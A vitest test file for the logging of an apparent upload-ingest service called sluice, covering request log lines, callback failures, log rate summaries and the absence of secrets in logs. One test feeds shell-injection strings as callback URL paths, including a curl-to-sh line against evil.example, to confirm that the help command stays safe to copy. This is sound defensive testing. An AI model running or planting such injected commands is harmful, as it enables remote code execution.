import { type LogFormat, type LogLevel } from "../../../src/protocol.ts"
import { describe, expect, it } from "vitest"
import { createMemoryCatalog } from "../../../src/ingest.ts"
import { toNodeListener } from "../../../adapters/node/to-node-listener.ts"
import { SluiceApi } from "../../../src/api.ts"
import { generateUploader } from "../../../src/client.ts"
import { createRouteHandler, createSluice } from "../../../src/server.ts"
import { createWebhookSecret } from "../../../src/protocol/signing/webhook-secret.ts"
import {
  answerWith,
  apiKey,
  appId,
  createGrant,
  eventually,
  listen,
  putRaw,
  register,
  sign,
  startApp,
  startIngest,
  token,
} from "../circle.ts"
import { captureConsole } from "../capture-console.ts"
import { scanSecret, startUrlScanner } from "../scan/fake-url-scanner.ts"
import { sendHeld, signHeld } from "../scan/held.ts"

type Line = Record<string, unknown> & { readonly level: string; readonly message: string }

const logging = async (logLevel: LogLevel, logFormat: LogFormat = "json", callbackRetries: number[] = []) => {
  const printed = captureConsole()
  const lines = () => printed.map((line) => JSON.parse(line) as Line)
  const find = (message: string) => lines().filter((line) => line.message === message)
  return { ingest: await startIngest({ logLevel, logFormat, callbackRetries }), printed, lines, find }
}

const traceparent = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-00"

describe("a line for each request", () => {
  it("that is answered, at Debug", async () => {
    const { ingest, find } = await logging("Debug")
    const grant = createGrant()
    await putRaw(await sign(ingest.url, grant), "hello", 0, { traceparent })
    expect(find("A request was answered.")).toEqual([
      {
        time: expect.any(String),
        level: "debug",
        service: "sluice",
        message: "A request was answered.",
        method: "PUT",
        route: "/{key}",
        key: grant.key,
        status: 200,
        ms: expect.any(Number),
        bytes: 5,
        trace: traceparent.slice(3, 35),
      },
    ])
  })

  it("that waits longer than it may: for the app a warning, for a verdict nothing but Debug", async () => {
    const printed = captureConsole()
    const ingest = await startIngest({ logLevel: "Debug", logFormat: "json", callbackWait: 50 })
    const app = await startApp(() => new Promise<Response>(() => {}))
    const slow = createGrant({ slug: "avatar", registrationId: "r1" })
    const { signed, grant: held } = await signHeld(ingest, { slug: "avatar", registrationId: "r2" })
    await register(ingest.url, { id: "r1", fileKeys: [slow.key], callbackUrl: app.url })
    await register(ingest.url, { id: "r2", fileKeys: [held.key], callbackUrl: app.url })
    for (const url of [await sign(ingest.url, slow), signed]) expect((await putRaw(url, "hello")).status).toBe(504)
    const lines = printed.map((line) => JSON.parse(line) as Line).filter(({ status }) => status === 504)
    expect(lines).toMatchObject([
      { level: "warning", key: slow.key, code: "CALLBACK_TIMEOUT", message: "A request could not be served." },
      { level: "debug", key: held.key, code: "CALLBACK_TIMEOUT", message: "A request was answered." },
    ])
  })

  it("that is answered, not at Info", async () => {
    const { ingest, find } = await logging("Info")
    await putRaw(await sign(ingest.url, createGrant()), "hello")
    expect(find("A request was answered.")).toEqual([])
  })

  it("that is refused, at Info, with code and reason and without a key that can be none", async () => {
    const { ingest, find } = await logging("Info")
    await fetch(`${ingest.url}/f/${"x".repeat(600)}`)
    const [line] = find("A request was refused.")
    expect(line).toMatchObject({ level: "info", method: "GET", route: "/f/{key}", status: 404, code: "NOT_FOUND" })
    expect(line).toHaveProperty("reason")
    expect(line).not.toHaveProperty("key")
  })

  it("that cannot be served, at Warning", async () => {
    const { ingest, find } = await logging("Warning")
    await ingest.close()
    await fetch(`${ingest.url}/f/key`)
    expect(find("A request could not be served.")).toMatchObject([
      { level: "warning", key: "key", status: 503, code: "INGEST_UNAVAILABLE" },
    ])
  })

  it("that fails for a reason nobody foresaw: with its line and the error with its stack", async () => {
    const printed = captureConsole()
    const broken = () => Promise.reject(new Error("the disk burns"))
    const catalog = { ...createMemoryCatalog(), begin: broken, commitWhole: broken }
    const { url } = await startIngest({ catalog, logLevel: "Info", logFormat: "json" })
    await putRaw(await sign(url, createGrant()), "hello")
    const lines = printed.map((line) => JSON.parse(line) as Line).filter(({ level }) => level !== "info")
    expect(lines).toMatchObject([
      { level: "warning", message: "A request could not be served.", status: 500 },
      { level: "error", cause: expect.stringContaining("the disk burns") },
    ])
  })
})

describe("a line for each event of a file's life", () => {
  it("start, stored, delivered, stop", async () => {
    const { ingest, lines } = await logging("Debug")
    const app = await startApp(answerWith({ id: 1 }))
    const grant = createGrant({ slug: "avatar" })
    await register(ingest.url, { fileKeys: [grant.key], callbackUrl: app.url }, apiKey, { traceparent })
    await putRaw(await sign(ingest.url, grant), "hello")
    await eventually(async () => (await ingest.catalog.get(grant.key))?.delivery?.status === "delivered")
    await ingest.close()
    const trace = traceparent.slice(3, 35)
    expect(lines().filter((line) => !("route" in line))).toMatchObject([
      { level: "info", message: "The ingest has started.", url: ingest.url, version: expect.stringMatching(/^\d/) },
      { level: "debug", message: "A file is stored.", key: grant.key, size: 5, trace },
      { level: "debug", message: "A callback was delivered.", key: grant.key, attempt: 1, status: 200, trace },
      { level: "info", message: "The ingest has stopped." },
    ])
  })

  it("failed, and given up", async () => {
    const { ingest, find } = await logging("Info")
    const app = await startApp(() => new Response("no", { status: 500 }))
    const grant = createGrant({ slug: "avatar", type: "image/png", size: 40 })
    await register(ingest.url, { fileKeys: [grant.key], callbackUrl: app.url })
    const executable = new Uint8Array(40)
    executable.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1])
    await putRaw(await sign(ingest.url, grant), executable)
    await eventually(() => find("A callback failed.").length === 1)
    expect(find("An upload has failed.")).toMatchObject([{ key: grant.key, code: "CONTENT_MISMATCH" }])
    expect(find("A callback failed.")).toMatchObject([{ level: "warning", key: grant.key, next: "given up" }])
  })

  it.each([
    ["/api/sluice", true],
    ["/;curl$IFS'evil.example'|sh", false],
    ["/$(id)", false],
    ["/a&&id", false],
  ])("a callback to %s failed, with a command that is safe to copy", async (path, isNamed) => {
    const { ingest, find } = await logging("Info")
    const app = await startApp(() => new Response("no", { status: 404 }))
    const callbackUrl = new URL(app.url).origin + path
    const grant = createGrant({ slug: "avatar" })
    await register(ingest.url, { fileKeys: [grant.key], callbackUrl })
    await putRaw(await sign(ingest.url, grant), "hello")
    await eventually(() => find("A callback failed.").length === 1)
    const command = `sluice doctor --callback-url ${isNamed ? callbackUrl : "<url>"}`
    expect(find("A callback failed.")[0]!["help"]).toBe(command)
  })

  it("a callback that a rate limiter refused, which is named, and when it comes again", async () => {
    const { ingest, find } = await logging("Info", "json", [1])
    const app = await startApp(() => new Response("Too many", { status: 429, headers: { "retry-after": "600" } }))
    const grant = createGrant({ slug: "avatar" })
    await register(ingest.url, { fileKeys: [grant.key], callbackUrl: app.url })
    await putRaw(await sign(ingest.url, grant), "hello")
    await eventually(() => find("A callback failed.").length === 1)
    const [{ hint, next }] = find("A callback failed.") as unknown as [{ hint: string; next: string }]
    expect(hint).toMatch(/rate limiter.*sluice-hook/)
    expect(Date.parse(next) - Date.now()).toBeGreaterThan(590_000)
    const { headers } = await register(ingest.url, {
      fileKeys: [createGrant({ slug: "avatar" }).key],
      callbackUrl: app.url,
    })
    expect(headers.get("x-sluice-warning")).toMatch(/429.*rate limiter/)
  })

  it("callbacks and events that fail: ten of a kind, and how many there were, whatever waits for an app that is down", async () => {
    const printed = captureConsole()
    const catalog = createMemoryCatalog()
    const endpoint = { appId, url: "http://127.0.0.1:9/", events: ["uploaded"], createdAt: 1 } as const
    await catalog.createEndpoint({ ...endpoint, id: "ep_down", secret: createWebhookSecret() })
    const ingest = await startIngest({ catalog, logLevel: "Info", logFormat: "json", callbackRetries: [1] })
    const app = await startApp(() => new Response(null, { status: 500 }))
    const count = 25
    for (let i = 0; i < count; i++) {
      const grant = createGrant({ slug: "avatar" })
      await register(ingest.url, { fileKeys: [grant.key], callbackUrl: app.url })
      await putRaw(await sign(ingest.url, grant), "hello")
    }
    await eventually(
      async () =>
        (await catalog.countEvents(100)).dead === count && (await catalog.countDeliveries(100)).dead === count,
    )
    await ingest.close()
    const lines = printed.map((line) => JSON.parse(line) as Line)
    for (const [message, more, subject] of [
      ["A callback failed.", ["callbacks failed", "callbacks were given up"], appId],
      [
        "An event did not reach an endpoint.",
        ["events did not reach endpoints", "events for endpoints were given up"],
        "ep_down",
      ],
    ] as const) {
      const single = lines.filter((line) => line.message === message)
      expect(single.filter(({ next }) => next === "given up").length).toBe(10)
      expect(single.filter(({ next }) => next !== "given up").length).toBe(10)
      for (const what of more) {
        const rest = lines.filter((line) => line.message === `More ${what} than are logged one by one.`)
        expect(rest).toEqual([expect.objectContaining({ level: "warning", [subject]: count - 10 })])
      }
    }
  }, 30_000)

  it("uploads that fail and deletions: ten of a kind, and how many there were", async () => {
    const { ingest, lines } = await logging("Info")
    const api = new SluiceApi({ token, ingestUrl: ingest.url })
    for (let i = 0; i < 15; i++) {
      expect((await putRaw(await sign(ingest.url, createGrant()), "hello, too long")).status).toBe(413)
      const grant = createGrant()
      await putRaw(await sign(ingest.url, grant), "hello")
      await api.deleteFiles(grant.key)
    }
    await ingest.close()
    const count = (message: string) => lines().filter((line) => line.message === message).length
    expect([count("An upload has failed."), count("An app has deleted files.")]).toEqual([10, 10])
    expect(lines()).toContainEqual(
      expect.objectContaining({ message: "More uploads have failed than are logged one by one.", SIZE_MISMATCH: 5 }),
    )
    expect(lines()).toContainEqual(
      expect.objectContaining({ message: "More deletions were asked for than are logged one by one.", [appId]: 5 }),
    )
  })

  it.each([
    ["rejects", 200, { verdict: "reject", reason: "It is blue." }, "A file was rejected.", "files were rejected"],
    [
      "leaves undecided",
      415,
      {},
      "The scanner does not decide about a file.",
      "files were left undecided by the scanner",
    ],
  ])("files that a scanner %s: ten, and how many there were", async (_, status, verdict, message, more) => {
    const printed = captureConsole()
    const scanner = await startUrlScanner((asked) => asked.answer(status, verdict))
    const scan = { url: scanner.url, secret: scanSecret }
    const ingest = await startIngest({ logLevel: "Info", logFormat: "json", scan, metrics: "open" })
    for (let i = 0; i < 15; i++) await sendHeld(ingest, "hello")
    await eventually(() => scanner.asked.length === 15)
    // What is under way when an ingest closes is not logged.
    const isIdle = async () => (await (await fetch(`${ingest.url}/metrics`)).text()).includes("sluice_scans_active 0")
    await eventually(isIdle)
    await ingest.close()
    const lines = printed.map((line) => JSON.parse(line) as Line)
    expect(lines.filter((line) => line.message === message)).toHaveLength(10)
    const summary = { message: `More ${more} than are logged one by one.`, [appId]: 5 }
    expect(lines).toContainEqual(expect.objectContaining(summary))
  })

  it("what housekeeping ended", async () => {
    const printed = captureConsole()
    const { url } = await startIngest({ logLevel: "Info", sweepInterval: 5, unfinishedTtl: 0 })
    await putRaw(await sign(url, createGrant({ size: 10, expires: Date.now() + 900 })), "hello")
    await eventually(() =>
      printed.some((line) => line.includes("Abandoned uploads and registrations were ended. count=1")),
    )
  })
})

for (const format of ["text", "json"] as const) {
  it(`a whole circle at level All holds no secret and no signed URL, as ${format}`, async () => {
    const printed = captureConsole()
    const catalog = createMemoryCatalog()
    const ingest = await startIngest({
      catalog,
      logLevel: "All",
      logFormat: format,
      callbackRetries: [1],
      metrics: { token: "a-token-for-prometheus" },
    })
    const f = createSluice()
    let calls = 0
    const router = {
      avatar: f({ text: {} }).onUploadComplete(() => {
        if (calls++ === 0) throw new Error("the first attempt fails")
      }),
    }
    const handle = createRouteHandler({
      router,
      token,
      ingestUrl: ingest.url,
      isDev: false,
      logLevel: "All",
      logFormat: format,
    })
    const seen: Array<string> = []
    const app = await listen(
      toNodeListener(async (request) => {
        seen.push(request.headers.get("x-sluice-signature") ?? "", request.headers.get("webhook-signature") ?? "")
        const response = await handle(request)
        if (response.ok) for (const [url] of (await response.clone().text()).matchAll(/http[^"]+/g)) seen.push(url)
        return response
      }),
    )
    const { uploadFiles } = generateUploader<typeof router>({ url: `${app}/api/sluice`, retry: { delay: 1 } })
    const file = new File(["hello"], "hello.txt", { type: "text/plain" })
    await uploadFiles("avatar", { files: [file] })
    await eventually(async () => (await catalog.countDeliveries(1)).pending === 0 && calls > 1)
    const grant = createGrant({ acl: "private" })
    const signed = await sign(ingest.url, grant)
    await putRaw(signed, "hello")
    await putRaw(`${signed}0`, "hello")
    await fetch(`${ingest.url}/f/${grant.key}?expires=1&signature=hmac-sha256%3D${"ab".repeat(32)}`)
    await register(ingest.url, { fileKeys: ["other"] }, "sk_test_of_somebody_else")
    await fetch(`${ingest.url}/metrics`, { headers: { authorization: "Bearer a-token-of-somebody-else" } })
    await ingest.close()

    const log = printed.join("\n")
    expect(log).toContain("A request was answered.")
    expect(log).toContain("A callback failed.")
    const signatures = seen.flatMap((text) => /(?:hmac-sha256(?:=|%3D)|v1,)(.{40,})/.exec(text)?.[1] ?? [])
    expect(signatures.length).toBeGreaterThanOrEqual(5)
    for (const secret of [
      apiKey,
      token,
      "sk_test_of",
      "a-token-",
      "signature=",
      "expires=",
      "ab".repeat(32),
      ...signatures,
    ]) {
      expect(log).not.toContain(secret)
    }
  })
}
